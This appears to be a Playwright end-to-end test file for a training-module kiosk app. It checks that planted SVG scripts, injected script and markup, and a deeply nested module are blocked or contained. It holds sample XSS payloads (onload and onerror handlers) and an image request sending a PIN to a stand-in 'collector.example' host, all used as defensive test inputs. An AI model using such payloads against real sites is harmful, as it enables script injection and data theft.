import { createHash } from 'node:crypto';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { catalogVersion } from '../../src/shared/catalog-update.ts';
import type { Catalog, CatalogEntry, TrainingModule } from '../../src/shared/module.ts';
import type { DocElement } from '../../src/shared/doc-tree.ts';
import { brotli, gzip } from '../../src/node/compress.ts';
import { useStack } from './use-stack.ts';
import { takePolicyViolations } from '../../harness/stack.ts';

/**
 * What the server and the kiosk do with content the publisher would refuse,
 * as if it had come from an older publisher or been planted in the content
 * directory: it runs nothing and breaks nothing else.
 */
describe('hostile content in a real browser', () => {
  const env = useStack();
  const violationsSeen: string[] = [];

  it('runs nothing in an SVG with scripts opened directly as a page: it gets an opaque origin and no access to storage', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg" onload="fetch(\'/ran-onload\')">'
      + '<s:script>fetch("/ran-script"); localStorage.setItem("owned", "1")</s:script><rect width="10" height="10"/></svg>';
    await mkdir(join(env.stack.content, 'media'), { recursive: true });
    await writeFile(join(env.stack.content, 'media', 'planted.0123456789ab.svg'), svg);
    const context = await env.browser.newContext();
    const page = await context.newPage();
    const blocked: string[] = [];
    page.on('console', (m) => { if (/sandboxed|allow-scripts/.test(m.text())) blocked.push(m.text()); });
    const response = await page.goto(`${env.stack.base}/content/media/planted.0123456789ab.svg`);
    expect(response!.headers()['content-security-policy']).toContain('sandbox');
    // The browser itself says it blocked the script; the page has no origin of its own to reach the app's storage with.
    await expect.poll(() => blocked.length).toBeGreaterThan(0);
    expect(await page.evaluate(() => self.origin)).toBe('null');
    expect(await page.evaluate(() => { try { return typeof localStorage.length; } catch (e) { return (e as Error).name; } })).toBe('SecurityError');
    expect(env.stack.requests.filter((p) => p.startsWith('/ran-'))).toEqual([]);
    await context.close();
  });

  it('refuses script, markup and addresses the app did not make, and every e2e test would hear of it', async () => {
    const context = await env.browser.newContext({ locale: 'en-GB' });
    const page = await context.newPage();
    await page.goto(env.stack.base);
    await page.getByTestId('saved-count').waitFor({ timeout: 30_000 });
    // What an injection would try: script text and markup as strings (Trusted Types refuse both), and an image
    // from elsewhere, which would carry data out (the CSP refuses it before any request).
    const outcome = await page.evaluate(() => {
      const attempt = (what: () => void) => { try { what(); return 'done'; } catch (err) { return (err as Error).name; } };
      const script = document.createElement('script');
      return {
        script: attempt(() => { script.textContent = 'window.ranInjected = true'; document.body.append(script); }),
        markup: attempt(() => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ranInjected = true">')),
        image: attempt(() => { new Image().src = 'https://collector.example/leak.png?pin=1234'; }),
        ran: (window as { ranInjected?: boolean }).ranInjected ?? false,
      };
    });
    expect(outcome).toEqual({ script: 'TypeError', markup: 'TypeError', image: 'done', ran: false });
    // The shared watch (tests/e2e/policy-violations.ts) saw all three; taken here, so this test passes.
    await expect.poll(() => violationsSeen.push(...takePolicyViolations())).toBeGreaterThanOrEqual(3);
    const seen = violationsSeen.join('\n');
    expect(seen).toMatch(/require-trusted-types-for refused .*window\.ranInjected = true/);
    expect(seen).toMatch(/require-trusted-types-for refused .*<img src=x onerror/);
    expect(seen).toMatch(/img-src refused https:\/\/collector\.example\/leak\.png\?pin=1234/);
    await context.close();
  });

  it('shows one damaged module as damaged, while the other modules and search keep working', async () => {
    // 2,000 nested notes: a few hundred bytes brotli, and past any structure limit.
    let deep: DocElement = ['p', 'bottom'];
    for (let i = 0; i < 2000; i++) deep = ['note', deep];
    const catalogFile = join(env.stack.content, 'catalog.json');
    const catalog = JSON.parse(await readFile(catalogFile, 'utf8')) as Catalog;
    const template = catalog.modules.find((m) => m.id === 'ppe-basics')!;
    const bad: TrainingModule = {
      id: 'deep-trouble', lang: 'en', title: 'Deep trouble', summary: 'Planted', version: '1', minutes: 1, roles: ['operator'],
      sections: [{ title: 'Down', body: [deep] }], quiz: { passMark: 50, questions: [{ prompt: 'x?', choices: ['a', 'b'], correct: [0], explanation: 'x' }] },
    };
    const json = Buffer.from(JSON.stringify(bad));
    const hash = createHash('sha256').update(json).digest('hex').slice(0, 12);
    const url = `/content/modules/deep-trouble.en.${hash}.json`;
    const file = join(env.stack.content, url.replace('/content/', ''));
    await Promise.all([writeFile(file, json), writeFile(`${file}.br`, brotli(json)), writeFile(`${file}.gz`, gzip(json))]);
    const entry: CatalogEntry = { ...template, id: bad.id, title: bad.title, summary: bad.summary, hash, url, media: [], bytes: json.length, br: brotli(json).length, gz: gzip(json).length };
    const modules = [entry, ...catalog.modules];
    await writeFile(catalogFile, JSON.stringify({ format: 1, version: await catalogVersion(modules), modules }));

    const context = await env.browser.newContext({ locale: 'en-GB' });
    const page = await context.newPage();
    const uncaught: string[] = [];
    page.on('pageerror', (e) => uncaught.push(e.message));
    await page.goto(env.stack.base);
    const total = new Set(modules.map((m) => m.id)).size;
    await page.getByTestId('saved-count').getByText(`${total} of ${total} modules saved on this device`).waitFor({ timeout: 30_000 });

    await page.locator('[data-module="deep-trouble"] a').click();
    await page.getByText('This module cannot be shown: it is damaged or too complex for this device.').waitFor();
    await page.getByRole('link', { name: 'Back' }).first().click();
    await page.locator('[data-module="lockout-tagout"] a').click();
    await page.getByTestId('reader').waitFor();
    await page.goto(env.stack.base);
    await page.getByLabel('Search all saved modules').fill('the lockout steps');
    await page.getByRole('button', { name: 'Search' }).click();
    await expect.poll(() => page.getByTestId('search-results').locator('li').first().textContent()).toContain('The six steps');
    expect(uncaught).toEqual([]);
    await context.close();
  });
});
